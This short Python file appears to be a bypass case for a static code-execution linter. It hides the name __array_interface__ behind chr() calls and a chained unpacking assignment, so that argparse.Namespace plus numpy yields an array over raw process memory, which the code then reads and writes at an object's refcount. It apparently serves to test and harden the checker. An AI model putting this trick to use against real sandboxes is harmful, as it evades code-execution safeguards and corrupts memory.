# source: https://github.com/unslothai/unsloth/pull/9777 (chained-assignment targets missed by a static exec linter); numpy docs "The array interface protocol" (__array_interface__ "data": (address, read_only)), https://numpy.org/doc/stable/reference/arrays.interface.html
# family: a dict the check trusts as "only ever a display with literal keys" rebound by a chained unpacking target, then spread into argparse.Namespace(**kw): a setattr by a run-time name (__array_interface__)
# goal: an ndarray over any address (here: the header of a Python object): read and write process memory outside what Python bounds
import numpy as np
import argparse


class Box:
    pass


box = Box()
addr = int(repr(box).split(" at ")[1].rstrip(">"), 16)
u2 = chr(95) * 2
key = u2 + "array" + chr(95) + "interface" + u2
kw = {"window": 20}                       # what the check reads
x = [kw] = [{key: {"data": (addr, False), "shape": (64,), "typestr": "|u1", "version": 3}}]
ns = argparse.Namespace(**kw)             # setattr(ns, "__array_interface__", ...)
raw = np.asarray(ns)                      # numpy trusts the address
print("address", hex(addr))
print("raw bytes of the object header (refcount, type pointer):", raw[:16].tolist())
raw[0] = raw[0] + 5                       # write into the refcount
print("refcount byte after writing through the array:", raw[0])
